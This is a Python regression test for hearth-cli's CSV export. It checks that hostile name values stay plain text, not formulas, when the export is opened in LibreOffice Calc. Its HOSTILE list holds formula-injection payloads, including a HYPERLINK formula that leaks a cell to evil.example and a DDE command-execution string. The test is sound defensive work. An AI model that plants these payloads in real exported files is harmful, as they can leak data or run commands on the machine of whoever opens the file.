#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
# test-csv-libreoffice.py: a demo list with hostile names, exported by hearth-cli and opened
# by LibreOffice Calc (formulas evaluated, as a coordinator's would be): every cell is read
# as text or a number, never run as a formula.
import os
import shutil
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as ET

NS = {
    'table': 'urn:oasis:names:tc:opendocument:xmlns:table:1.0',
    'office': 'urn:oasis:names:tc:opendocument:xmlns:office:1.0',
    'text': 'urn:oasis:names:tc:opendocument:xmlns:text:1.0',
}
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"Click me")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
]


def q(tag):
    prefix, name = tag.split(':')
    return '{%s}%s' % (NS[prefix], name)


def cli(cli_path, *args):
    env = dict(os.environ, LC_ALL='C.UTF-8', HEARTH_TODAY='2026-11-22', TZ='UTC')
    result = subprocess.run([cli_path, *args], env=env, capture_output=True, text=True)
    if result.returncode != 0:
        sys.exit('hearth-cli %s failed: %s' % (' '.join(args), result.stderr))
    return result.stdout


def cell_text(cell):
    parts = []
    for p in cell.iter(q('text:p')):
        bits = [p.text or '']
        for child in p:
            if child.tag == q('text:tab'):
                bits.append('\t')
            elif child.tag == q('text:s'):
                bits.append(' ' * int(child.get(q('text:c'), '1')))
            else:
                bits.append(''.join(child.itertext()))
            bits.append(child.tail or '')
        parts.append(''.join(bits))
    return '\n'.join(parts)


def read_rows(fods):
    rows = []
    for row in ET.parse(fods).getroot().iter(q('table:table-row')):
        cells = []
        for cell in row.findall(q('table:table-cell')):
            repeat = int(cell.get(q('table:number-columns-repeated'), '1'))
            entry = (cell.get(q('office:value-type')), cell.get(q('table:formula')),
                     cell_text(cell))
            cells.extend([entry] * min(repeat, 64))
        rows.append(cells)
    return rows


def main():
    cli_path = sys.argv[1]
    soffice = shutil.which('soffice')
    if soffice is None:
        print('soffice is not installed (libreoffice-calc-nogui): skipping')
        return 77

    with tempfile.TemporaryDirectory(prefix='hearth-csv-lo-') as tmp:
        scheme = os.path.join(tmp, 'demo.hearth')
        csv = os.path.join(tmp, 'people.csv')
        cli(cli_path, 'demo', scheme, '--scale', '1')
        for i, text in enumerate(HOSTILE, start=1):
            cli(cli_path, 'update-person', scheme, '--person', str(i),
                '--set', 'first_name=' + text, '--set', 'area=' + text)
        # A plain number is a number: written as it is, read as the number.
        cli(cli_path, 'update-person', scheme, '--person', '20', '--set', 'area=-1')
        cli(cli_path, 'export', scheme, 'people', '-o', csv)

        env = dict(os.environ, HOME=tmp)
        subprocess.run([soffice, '--headless', '-env:UserInstallation=file://' + tmp + '/profile',
                        '--infilter=CSV:44,34,76,1', '--convert-to', 'fods', '--outdir', tmp, csv],
                       env=env, check=True, capture_output=True, timeout=240)
        rows = read_rows(os.path.join(tmp, 'people.fods'))

    headings = [text for _, _, text in rows[0]]
    id_col, first_col, area_col = (headings.index(h) for h in ('ID', 'First name', 'Area'))
    by_id = {cells[id_col][2]: cells for cells in rows[1:] if len(cells) > area_col}
    failures = []

    formulas = [(r, c) for r, cells in enumerate(rows) for c, cell in enumerate(cells) if cell[1]]
    if formulas:
        failures.append('cells read as formulas: %s' % formulas)

    for i, text in enumerate(HOSTILE, start=1):
        for col in (first_col, area_col):
            kind, formula, shown = by_id[str(i)][col]
            expected = "'" + text.replace('\r', '\n')
            if kind != 'string' or formula or shown.strip('\n') != expected.strip('\n'):
                failures.append('person %d, column %s: %r read as %s %r (formula %r)'
                                % (i, headings[col], text, kind, shown, formula))

    kind, formula, shown = by_id['20'][area_col]
    if kind != 'float' or formula or shown != '-1':
        failures.append('-1 read as %s %r (formula %r)' % (kind, shown, formula))

    for failure in failures:
        print(failure)
    return 1 if failures else 0


if __name__ == '__main__':
    sys.exit(main())
